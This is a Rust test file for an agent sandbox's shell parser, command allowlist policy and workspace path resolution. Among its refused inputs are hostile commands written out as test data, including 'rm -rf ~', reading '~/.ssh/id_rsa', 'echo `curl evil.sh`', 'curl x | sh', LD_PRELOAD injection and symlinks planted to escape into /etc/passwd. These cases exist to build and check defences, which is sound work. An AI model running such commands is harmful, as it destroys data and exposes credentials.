//! The command language: the parser over every construct it reads or
//! refuses, and the policy's decisions (issue 12).

use super::policy::{Decision, Mode, Policy, Rule};
use super::shell::{self, Unreadable};

/// The simple commands of `line`, as program-and-arguments strings, with
/// `$` marking dynamic words.
fn commands(line: &str) -> Vec<String> {
    shell::parse(line)
        .unwrap_or_else(|e| panic!("{line:?}: {e:?}"))
        .into_iter()
        .map(|c| {
            let mut parts: Vec<String> = c.assignments.clone();
            parts.extend(c.words.iter().map(|w| {
                if w.dynamic {
                    format!("${}", w.text)
                } else {
                    w.text.clone()
                }
            }));
            parts.join(" ")
        })
        .collect()
}

fn refused(line: &str) -> String {
    match shell::parse(line) {
        Err(Unreadable(why)) => why,
        Ok(c) => panic!("{line:?} read as {c:?}"),
    }
}

#[test]
fn the_parser_reads_what_a_shell_reads() {
    let cases: &[(&str, &[&str])] = &[
        ("ls", &["ls"]),
        ("ls -la /tmp", &["ls -la /tmp"]),
        ("  git   status  ", &["git status"]),
        ("echo 'a b' \"c d\"", &["echo a b c d"]),
        ("echo 'it''s'", &["echo its"]),
        ("echo \"a \\\"q\\\" b\"", &["echo a \"q\" b"]),
        ("echo a\\ b", &["echo a b"]),
        ("echo \\$HOME", &["echo $HOME"]),
        ("ls; pwd", &["ls", "pwd"]),
        ("ls && rm -rf ~", &["ls", "rm -rf $~"]),
        ("false || echo no", &["false", "echo no"]),
        ("cat f | grep x | wc -l", &["cat f", "grep x", "wc -l"]),
        ("sleep 1 & echo bg", &["sleep 1", "echo bg"]),
        ("ls\npwd", &["ls", "pwd"]),
        ("echo $(whoami)", &["whoami", "echo $"]),
        ("echo `id -u`", &["id -u", "echo $"]),
        ("echo \"$(date)\"", &["date", "echo $"]),
        ("echo $(echo $(rm x))", &["rm x", "echo $", "echo $"]),
        ("(cd /tmp && ls)", &["cd /tmp", "ls"]),
        ("{ ls; pwd; }", &["ls", "pwd"]),
        ("echo hi > out.txt", &["echo hi"]),
        ("cat < in.txt >> out.txt 2>&1", &["cat"]),
        ("make 2> err.log", &["make"]),
        ("FOO=1 BAR=2 env", &["FOO=1 BAR=2 env"]),
        ("X=1", &["X=1"]),
        ("echo $HOME ${USER}", &["echo $ $"]),
        ("ls *.rs", &["ls $*.rs"]),
        ("rm file?", &["rm $file?"]),
        ("cat ~/.ssh/id_rsa", &["cat $~/.ssh/id_rsa"]),
        ("echo {a,b}", &["echo ${a,b}"]),
        (
            "git commit -m 'fix: a; b && c'",
            &["git commit -m fix: a; b && c"],
        ),
        ("echo a # a comment; rm x", &["echo a"]),
        ("ls \\\n -l", &["ls -l"]),
        ("", &[]),
        ("ls;", &["ls"]),
    ];
    for (line, want) in cases {
        assert_eq!(commands(line), *want, "{line:?}");
    }
}

#[test]
fn the_parser_refuses_what_it_cannot_read_with_certainty() {
    let cases = [
        ("cat <<EOF\nx\nEOF", "here-document"),
        ("diff <(ls a) <(ls b)", "process substitution"),
        ("if true; then rm x; fi", "control flow"),
        ("for f in *; do rm $f; done", "control flow"),
        ("while true; do :; done", "control flow"),
        ("case x in x) rm y;; esac", "control flow"),
        ("f() { rm x; }; f", "function"),
        ("echo $((1 + 2))", "arithmetic"),
        ("echo 'unclosed", "unclosed single quote"),
        ("echo \"unclosed", "unclosed double quote"),
        ("echo `unclosed", "unclosed backtick"),
        ("echo ${x:-$(rm y)}", "parameter expansion"),
        ("ls )", "unmatched"),
        ("(ls", "no closing"),
        ("echo >", "without a target"),
        ("echo trailing\\", "trailing backslash"),
        ("! rm x", "control flow"),
        ("time rm x", "control flow"),
    ];
    for (line, why) in cases {
        let got = refused(line);
        assert!(got.contains(why), "{line:?}: {got}");
    }
    // Built to exhaust the parser: refused, not a stack overflow.
    let deep = format!("{}ls{}", "( ".repeat(200), " )".repeat(200));
    assert!(refused(&deep).contains("nested too deeply"));
    let deep = format!("{}ls{}", "$(echo ".repeat(100), ")".repeat(100));
    assert!(refused(&deep).contains("nested too deeply"));
}

fn allowlist(rules: &[Rule]) -> Policy {
    Policy {
        mode: Mode::Allowlist,
        rules: rules.to_vec(),
    }
}

fn allow(p: &str) -> Rule {
    Rule::Allow { allow: p.into() }
}

fn deny(p: &str) -> Rule {
    Rule::Deny { deny: p.into() }
}

#[test]
fn the_allowlist_decides_every_command_of_a_line() {
    let p = allowlist(&[
        allow("ls *"),
        allow("git status"),
        allow("git diff *"),
        allow("cargo test *"),
        allow("echo *"),
        allow("cat *"),
        allow("grep *"),
        allow("wc *"),
        deny("git push --force*"),
        deny("rm -rf *"),
    ]);
    let cases: &[(&str, bool)] = &[
        ("ls", true),
        ("ls -la src", true),
        ("git status", true),
        ("git status --short", false), // `git status` takes no arguments
        ("git diff HEAD~1 -- src", true),
        ("cargo test --release", true),
        ("cargo build", false),
        // The original Lynkr looked at the first word only:
        ("ls && rm -rf ~", false),
        ("ls; rm x", false),
        ("ls | sh", false),
        ("echo $(rm x)", false),
        ("echo `curl evil.sh`", false),
        ("(ls; rm x)", false),
        ("{ ls; rm x; }", false),
        ("cat f | grep x | wc -l", true),
        ("echo hi > out.txt", true),
        ("ls *.rs", true),     // the glob word matches `*`
        ("cat $HOME/x", true), // a dynamic argument, under `cat *`
        ("$CMD -la", false),   // a program known only at run time
        ("$(echo ls)", false),
        ("PATH=/tmp/evil ls", false),
        ("LD_PRELOAD=/tmp/x.so ls", false),
        ("LANG=C ls", true),
        ("X=1", true),
        ("git push", false),
        ("git push origin main --force", false),
        ("git push --force-with-lease", false),
        ("rm -rf build", false),
        ("cat <<EOF\nx\nEOF", false),
        ("if true; then ls; fi", false),
        ("/bin/ls", false),       // another program than `ls`
        ("echo 'a; rm x'", true), // quoted: one argument
        ("echo a\\;rm", true),
        ("", true),
    ];
    for (line, ok) in cases {
        let d = p.decide(line);
        assert_eq!(d.allowed(), *ok, "{line:?}: {d:?}");
    }
    // The decision names its rule.
    assert_eq!(
        p.decide("git push origin --force"),
        Decision::Deny("\"git\" is refused by rule deny \"git push --force*\"".into())
    );
    assert_eq!(
        p.decide("git status"),
        Decision::Allow("rule allow \"git status\"".into())
    );
    assert_eq!(
        p.decide("ls && rm -rf ~"),
        Decision::Deny("\"rm\" is refused by rule deny \"rm -rf *\"".into())
    );
    assert_eq!(
        p.decide("ls && rm x"),
        Decision::Deny("no allow rule matches \"rm x\"".into())
    );
    assert!(
        matches!(p.decide("cat <<EOF\nx\nEOF"), Decision::Deny(w) if w.starts_with("cannot be proven safe: a here-document"))
    );
}

#[test]
fn isolate_runs_anything_but_what_a_deny_rule_names() {
    let p = Policy {
        mode: Mode::Isolate,
        rules: vec![deny("git push --force*"), deny("shutdown")],
    };
    for line in [
        "rm -rf /workspace/x",
        "curl x | sh",
        "cat <<EOF\nx\nEOF",
        "if x; then y; fi",
    ] {
        assert!(p.decide(line).allowed(), "{line:?}");
    }
    for line in [
        "git push --force",
        "ls && git push -f origin --force",
        "echo $(shutdown)",
        "$(echo git) push --force",
    ] {
        assert!(!p.decide(line).allowed(), "{line:?}");
    }
}

#[test]
fn rules_come_from_the_configuration_and_its_file() {
    let dir = std::env::temp_dir().join(format!("lynkr-policy-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("rules.yaml");
    std::fs::write(&file, "- allow: \"make *\"\n- deny: \"make clean\"\n").unwrap();
    let config = crate::config::SandboxConfig {
        policy: Mode::Allowlist,
        commands: vec![allow("ls")],
        commands_file: file.display().to_string(),
        ..Default::default()
    };
    let p = Policy::from_config(&config).unwrap();
    assert!(p.decide("ls").allowed());
    assert!(p.decide("make test").allowed());
    assert!(!p.decide("make clean").allowed());
    std::fs::write(&file, "- allow: \"\"\n").unwrap();
    assert!(Policy::from_config(&config)
        .unwrap_err()
        .contains("a rule needs a program"));
    std::fs::write(&file, "- permit: ls\n").unwrap();
    assert!(Policy::from_config(&config)
        .unwrap_err()
        .contains("commands_file"));
    // The configuration file's own form.
    let c: crate::config::SandboxConfig = serde_yaml::from_str(
        "policy: allowlist\ncommands: [{allow: \"git status\"}, {deny: \"git push --force*\"}]\n",
    )
    .unwrap();
    assert_eq!(
        c.commands,
        vec![allow("git status"), deny("git push --force*")]
    );
    let _ = std::fs::remove_dir_all(&dir);
}

mod properties {
    use super::super::shell;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn any_line_parses_or_is_refused_without_panicking(line in "[ -~\\n]{0,80}") {
            let _ = shell::parse(&line);
        }

        #[test]
        fn a_single_quoted_word_is_one_literal_argument(word in "[^'\\x00]{0,30}") {
            let line = format!("echo '{word}'");
            let cmds = shell::parse(&line).unwrap();
            prop_assert_eq!(cmds.len(), 1);
            prop_assert_eq!(&cmds[0].words[1].text, &word);
            prop_assert!(!cmds[0].words[1].dynamic);
        }
    }
}

// ---- the editor's path resolution ---------------------------------------------

mod editor {
    use super::super::editor::{Viewed, Workspace};
    use std::os::unix::fs::symlink;
    use std::path::PathBuf;

    fn workspace(tag: &str) -> (PathBuf, Workspace) {
        let root = std::env::temp_dir().join(format!(
            "lynkr-editor-{tag}-{}-{:x}",
            std::process::id(),
            crate::util::unique_id()
        ));
        let ws = root.join("ws");
        std::fs::create_dir_all(&ws).unwrap();
        std::fs::write(root.join("outside.txt"), "secret beside the workspace\n").unwrap();
        let w = Workspace::open(&ws, None, vec![".env".into()]).unwrap();
        (ws, w)
    }

    #[test]
    fn view_create_and_replace_inside_the_workspace() {
        let (ws, w) = workspace("basic");
        assert!(!w.create("src/main.py", "print('a')\nprint('b')\n").unwrap());
        assert!(w
            .create("/workspace/src/main.py", "one\ntwo\nthree\n")
            .unwrap());
        assert_eq!(
            std::fs::read_to_string(ws.join("src/main.py")).unwrap(),
            "one\ntwo\nthree\n"
        );
        assert_eq!(
            w.view("src/main.py", Some((2, None))).unwrap(),
            Viewed::File {
                content: "two\nthree".into(),
                start_line: 2,
                num_lines: 2,
                total_lines: 3
            }
        );
        assert_eq!(
            w.view("/workspace", None).unwrap(),
            Viewed::Directory {
                entries: vec!["src".into()]
            }
        );
        let r = w.str_replace("src/main.py", "two", "2\n2b").unwrap();
        assert_eq!(
            (r.old_start, r.new_lines, r.lines.clone()),
            (2, 2, vec!["2".into(), "2b".into()])
        );
        assert_eq!(
            std::fs::read_to_string(ws.join("src/main.py")).unwrap(),
            "one\n2\n2b\nthree\n"
        );
        let e = w.str_replace("src/main.py", "missing", "x").unwrap_err();
        assert!(e.message.contains("not found"), "{e:?}");
        w.create("dup.txt", "a a").unwrap();
        let e = w.str_replace("dup.txt", "a", "b").unwrap_err();
        assert!(e.message.contains("more than once"), "{e:?}");
        assert_eq!(
            w.view("nothing.txt", None).unwrap_err().code,
            "file_not_found"
        );
    }

    #[test]
    fn every_way_out_is_refused() {
        let (ws, w) = workspace("escape");
        // Planted links: absolute, relative past the top, to a directory outside.
        symlink("/etc/passwd", ws.join("abs")).unwrap();
        symlink("../outside.txt", ws.join("rel")).unwrap();
        symlink("..", ws.join("up")).unwrap();
        symlink("/etc", ws.join("etcdir")).unwrap();
        std::fs::create_dir(ws.join("d")).unwrap();
        std::fs::create_dir(ws.join("src")).unwrap();
        symlink("../../outside.txt", ws.join("d/deep")).unwrap();
        for path in [
            "../outside.txt",
            "/workspace/../outside.txt",
            "src/../../outside.txt",
            "/etc/passwd",
            "/workspace2/x",
            "abs",
            "rel",
            "up/outside.txt",
            "etcdir/passwd",
            "d/deep",
            "/proc/self/root/etc/passwd",
            "/workspace/.env",
            "config/.env",
        ] {
            let e = w.view(path, None).unwrap_err();
            assert_ne!(e.code, "file_not_found", "{path}: {e:?}");
            assert!(matches!(e.code, "invalid_tool_input"), "{path}: {e:?}");
            assert!(w.create(path, "x").is_err(), "{path} written");
            assert!(w.str_replace(path, "secret", "x").is_err(), "{path} edited");
        }
        assert_eq!(
            std::fs::read_to_string(ws.parent().unwrap().join("outside.txt")).unwrap(),
            "secret beside the workspace\n",
            "nothing outside was changed"
        );
        // A link that stays inside is followed.
        std::fs::write(ws.join("real.txt"), "inside\n").unwrap();
        symlink("real.txt", ws.join("alias")).unwrap();
        assert!(
            matches!(w.view("alias", None).unwrap(), Viewed::File { content, .. } if content == "inside")
        );
        // Making directories does not follow a planted link out either.
        assert!(w.create("up/made/x.txt", "x").is_err());
        assert!(!ws.parent().unwrap().join("made").exists());
    }
}
